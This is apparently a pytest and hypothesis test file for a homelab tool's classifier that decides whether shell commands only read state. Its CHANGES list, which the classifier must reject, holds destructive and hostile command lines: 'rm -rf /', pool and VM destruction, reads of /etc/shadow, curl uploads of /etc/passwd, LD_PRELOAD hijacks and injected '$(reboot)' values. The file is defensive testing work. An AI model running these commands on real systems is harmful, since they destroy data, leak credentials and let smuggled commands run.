"""The word `read` has to be earned; each line here is one command."""

import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import homelab_lib.control  # noqa: F401  (its rooms say what of their appliances only reads)
from homelab_lib.transport import reads
from homelab_lib.transport.options import Allowed
from homelab_lib.transport.reads import reads_only

READS = r"""
env LC_ALL=C ls -l /
runuser -u me -- stat -c %a /home/me/.kube
/bin/ls -la /
/usr/sbin/ip -j addr
tail -n +5 /etc/hosts
tail -c100 -- -f
date +%s
date -u -d @0 +%F
dmesg -T --level err
apt-cache -q madison curl
kubectl get --raw /readyz?verbose
kubectl get --raw=/version
kubectl get -f x.yaml -o json
qm guest exec 201 --timeout 5 -- stat -c %a /x
qm config 201 --current 1
pvesm list local --content iso
cat /etc/rancher/k3s/config.yaml
stat -c '%a %U:%G %F' /etc/hosts
smartctl -a --json=c /dev/sda
midclt call -j pool.import_find
midclt call filesystem.getacl /mnt/tank/family true
sha256sum -- /tmp/x
test -e /boot/efi
hostname
hostname -f
uname -r
dpkg-query -W -f='${Version}' qemu-guest-agent
apt-cache policy nfs-common
find /sys/class/net -maxdepth 1 -name 'enp*' -printf '%f\n'
swapon --show --noheadings
sysctl -n net.ipv4.ip_forward
lspci -nnk -s 01:00.0
ethtool eth0
ethtool -i eth0
ss -tlnp
ip -j addr show dev eth0
ip -4 -o addr
ip route get 10.0.30.21
ip link
journalctl -q --no-pager -o cat _SYSTEMD_INVOCATION_ID=0123
journalctl -u k3s -n50 --since=-1h
systemctl show homelab-x.service -p LoadState -p ActiveState
systemctl is-active nfs-server
cloud-init status --wait --long
curl -fsSL https://get.k3s.io/
curl -sS --max-time 5 -H 'Host: whoami.lab' -w '%{http_code}' http://10.0.30.21/
kubectl get nodes -o json
kubectl --kubeconfig /home/me/.kube/config -n get get pods
kubectl version --client=true -o json
kubectl -n test logs reader --tail=5
kubectl auth can-i create pods
kubectl rollout status deployment/nginx --timeout 5s
kubectl config view --minify
kubectl diff -f -
k3s kubectl -n kube-system get pods -A
k3s --version
k3s etcd-snapshot ls
helm list -A -o json
helm -n kube-system status csi-driver-nfs
pvesh get /nodes/proxmox/qemu --output-format json
pveversion -v
pvesm status
qm config 201
qm guest cmd 201 network-get-interfaces
qm guest exec 201 -- cat /etc/ssh/ssh_host_ed25519_key.pub
qm cloudinit dump 201 user
midclt call pool.dataset.query '[["id","=","tank/k3s"]]'
midclt call core.get_jobs '[["id","=",7]]'
midclt call system.info
midclt call sharing.nfs.get_instance 3
zpool status -x
zpool list -Hp -o name,size
zfs get -Hp -o value recordsize tank/k3s
/usr/local/bin/k3s kubectl get nodes
"""

CHANGES = r"""
env LC_ALL=C rm -rf /
env LD_PRELOAD=/tmp/x ls
env -S ls
env LC_ALL=C ./ls
runuser -u me -- rm x
runuser -u me -- sh -c ls
runuser -l me -c ls
runuser -u me --
./ls
/tmp/x/cat /etc/hosts
/usr/bin/../../tmp/cat /etc/hosts
~/bin/ls
bin/ls
/ls
//usr/bin/ls
/opt/bin/kubectl get pods
tail -f /var/log/syslog
tail -F /var/log/syslog
tail --follow /var/log/syslog
tail --pid=1 x
apt-cache -o Dir::Cache::pkgcache=/etc/passwd policy x
apt-cache policy -o Dir::Cache::srcpkgcache=/etc/passwd x
apt-cache policy -oAPT::Update::Pre-Invoke::=reboot
apt-cache -c /tmp/apt.conf policy x
apt-cache policy --config-file=/tmp/apt.conf x
apt-cache dump
date -s 2030-01-01
date --set=2030-01-01
date 010100002030
date -f /etc/shadow
dmesg -C
dmesg -c
dmesg -D
dmesg -n 1
dmesg -w
dmesg --follow
dmesg -H
sort -o /etc/passwd x
lspci -i /tmp/ids
lspci -p /tmp/map
lspci -q
lspci -A dump -O dump.name=/tmp/x
lsusb -D /dev/bus/usb/001/001
modinfo -b /tmp x
findmnt --poll
free -s 1
lsblk --sysroot /tmp
lscpu -s /tmp
dpkg-query --admindir=/tmp -W
dpkg-query --load-avail -s x
wc --files0-from=/tmp/x
find /tmp -fprintf /etc/passwd %p
find /tmp -fls /etc/passwd
find /tmp -execdir rm {} ;
find /tmp -ok rm {} ;
find -files0-from /tmp/x
test -v 'a[$(reboot)]'
test 'a[$(reboot)]' -eq 1
systemctl -H other status x
systemctl --root=/tmp list-units
systemctl show -M other x
systemctl kill x
systemctl status --force x
journalctl -f
journalctl --follow
journalctl --directory=/tmp
journalctl --update-catalog
journalctl --setup-keys
ss -E
ss -F /tmp/filter
ss -N other
ip monitor
ip -n other addr
ip -rc 1 addr
ip route flush table main
ip route save
ip addr flush dev eth0
sysctl -p
sysctl -f /tmp/x
sysctl -r net
curl -w @/etc/shadow https://x/
curl -H @/etc/shadow https://x/
curl --header=@/etc/shadow https://x/
curl --write-out=%output{/tmp/x} https://x/
curl --output-dir /tmp -O https://x/
curl --unix-socket /run/docker.sock http://x/
curl --config=/tmp/x https://x/
curl --next -X POST https://x/
curl file:///etc/shadow
curl -sS --trace /etc/passwd https://x/
curl --stderr /etc/passwd https://x/
curl --etag-save /etc/passwd https://x/
curl --hsts /etc/passwd https://x/
kubectl get --raw /api/v1/nodes/x/proxy/run/ns/pod/c?cmd=reboot
kubectl get --raw /api/v1/namespaces/x/services/y/proxy/delete
kubectl get --raw=/apis/x
kubectl get --raw /readyz/../api/v1/nodes
kubectl get --raw
kubectl config view --raw
kubectl logs -f pod
kubectl logs --follow pod
kubectl get pods -w
kubectl get pods --watch-only
kubectl --as=root get pods
kubectl --server=https://elsewhere get pods
kubectl get pods --cache-dir=/etc
kubectl get pods --profile-output=/etc/passwd
kubectl get pods --log-file=/etc/passwd
k3s etcd-snapshot ls --etcd-snapshot-dir=/x
k3s kubectl get --raw /api/v1/nodes/x/proxy/configz
helm get values x --post-renderer /tmp/x
helm list --registry-config /tmp/x
pvesh get /version --no-such-option
qm guest exec 201 --pass-stdin 1 -- cat
qm guest exec 201 --
qm guest exec -- cat /etc/hosts
midclt call pool.query --job
midclt -t 5 call pool.query
midclt call '' x
zfs list --rm
zpool status -c upath
rm -rf /tmp/x
sh -c 'cat /etc/hosts'
sudo cat /etc/shadow
env cat /etc/hosts
tee /etc/hosts
systemctl restart nfs-server
systemctl --no-block stop k3s
systemctl daemon-reload
systemd-run --unit=x -- true
hostname newname
hostname -F /etc/hostname
hostnamectl set-hostname x
find / -name core -delete
find / -exec rm {} +
find / -fprint /etc/passwd
swapon /dev/sda2
swapon -a
swapoff -a
sysctl -w net.ipv4.ip_forward=1
sysctl net.ipv4.ip_forward=1
sysctl -n -p /etc/sysctl.conf
sysctl --system
ethtool -s eth0 speed 1000
ethtool -K eth0 tso off
ethtool -p eth0
ethtool --set-ring eth0 rx 4096
ip link set eth0 down
ip -batch /tmp/x
ip -b /tmp/x addr show
ip addr add 10.0.0.1/24 dev eth0
ip route replace default via 10.0.0.1
ip netns exec x ip addr
ip -n x addr flush dev eth0
ss -K dst 10.0.0.1
ss -tD /tmp/dump
journalctl --vacuum-size=1M
journalctl --vac=1M
journalctl --rotate
journalctl --ro
journalctl --flush
journalctl --cursor-file=/etc/passwd
cloud-init clean
curl -o /etc/passwd https://x/
curl -fsSLo /tmp/x https://x/
curl -fsSLO https://x/
curl -X POST https://x/
curl -XDELETE https://x/
curl -d a=b https://x/
curl --json '{}' https://x/
curl -T /etc/passwd https://x/
curl -F a=b https://x/
curl -K /tmp/config
curl -D /tmp/headers https://x/
curl -c /tmp/jar https://x/
curl -w '%output{/tmp/x}' https://x/
curl -s gopher://x:25/
curl
kubectl apply -f -
kubectl delete pod x
kubectl -n get delete pod x
kubectl --kubeconfig get delete pod x
kubectl --namespace=get delete pod x
kubectl --context get create ns x
kubectl config use-context prod
kubectl config set-cluster x
kubectl rollout restart deployment/x
kubectl auth reconcile -f x
kubectl exec x -- cat /etc/hosts
kubectl cp x:/a b
kubectl cluster-info dump --output-directory=/tmp
kubectl --unknown get pods
k3s kubectl delete node x
k3s server
k3s etcd-snapshot save
k3s etcd-snapshot delete x
helm install x y
helm -n list uninstall x
helm repo add x y
pvesh create /nodes/proxmox/qemu
pvesh set /cluster/options
pvesh delete /nodes/proxmox/qemu/201
pvesm set local --content iso
qm destroy 201
qm start 201
qm guest exec 201 -- rm -rf /
qm guest exec 201 -- sh -c 'cat /etc/hosts'
qm guest exec 201 cat /etc/hosts
qm guest cmd 201 shutdown
qm guest passwd 201 root
qm cloudinit update 201
midclt call pool.dataset.delete tank/k3s
midclt call pool.dataset.create '{}'
midclt call service.control START nfs
midclt call system.reboot
midclt call config.save
midclt call interface.checkin
midclt call core.bulk pool.dataset.query '[]'
midclt call -j pool.dataset.query
midclt call -j pool.create '{}'
midclt call -j pool.import_pool '{}'
midclt call -j pool.import_find --job
midclt call filesystem.setacl '{}'
smartctl -t long /dev/sda
smartctl -s off /dev/sda
smartctl --json=c -X /dev/sda
python3 -c 'print(1)'
midclt call query; reboot
midclt call
midclt
zpool destroy tank
zpool import -a
zpool status -c /tmp/script
zfs destroy tank/k3s
zfs set recordsize=1M tank
apt-get install x
apt-cache gencaches
dpkg -i x.deb
mount /dev/sda1 /mnt
a-program-nobody-knows
"""


def _lines(text):
    return [line for line in text.splitlines() if line]


@pytest.mark.parametrize("line", _lines(READS))
def test_reading(line):
    assert reads_only(shlex.split(line))


@pytest.mark.parametrize("line", _lines(CHANGES))
def test_not_known_to_be_reading(line):
    assert not reads_only(shlex.split(line))


GRAMMARS = {name: judge for name, judge in reads._programs.items() if isinstance(judge, Allowed)}
options = st.one_of(
    st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-=", min_size=1),
    st.sampled_from(
        [
            "output",
            "file",
            "exec",
            "config",
            "follow",
            "write",
            "set",
            "delete",
            "force",
            "raw",
            "root",
        ]
    ),
)


@given(st.sampled_from(sorted(GRAMMARS)), options, st.booleans(), st.data())
@example("tail", "follow", True, None)
def test_no_option_outside_the_list_is_ever_a_read(program, option, long, data):
    """Wherever it stands among words that are allowed, short, long, bundled or with a value."""
    grammar = GRAMMARS[program]
    known = {*grammar.flags.split(), *grammar.values.split()}
    option = option.lstrip("-=")
    word = f"--{option}" if long else f"-{option}"
    name = word.partition("=")[0] if long else word[:2]
    if not option or word in known or name in known:
        return  # allowed; what follows the first letter is the next test's
    phrase = grammar.phrases.split(",")[0].split()
    flags = grammar.flags.split()
    lead = data.draw(st.lists(st.sampled_from(flags), max_size=2)) if data and flags else []
    for words in ([*phrase, word], [word, *phrase], [*phrase, *lead, word, "x"]):
        assert not reads_only([program, *words]), words


@given(
    st.sampled_from(sorted(GRAMMARS)), st.sampled_from("abcdefghijklmnopqrstuvwxyzCDFHKLMORSTWX")
)
def test_nor_is_it_behind_a_letter_that_is_allowed(program, letter):
    grammar = GRAMMARS[program]
    alone = [flag for flag in grammar.flags.split() if len(flag) == 2]
    if f"-{letter}" in {*alone, *grammar.values.split()}:
        return
    for flag in alone:
        if flag + letter not in grammar.flags.split():
            words = [*grammar.phrases.split(",")[0].split(), flag + letter]
            assert not reads_only([program, *words]), words


@pytest.mark.parametrize("program", sorted(reads._programs))
def test_a_program_by_another_path_is_not_known(program):
    for path in (f"./{program}", f"/tmp/x/{program}", f"bin/{program}", f"/usr/bin/x/{program}"):
        assert not reads_only([path])
        assert not reads_only([path, "status"])
        assert not reads_only([path, "get", "x"])
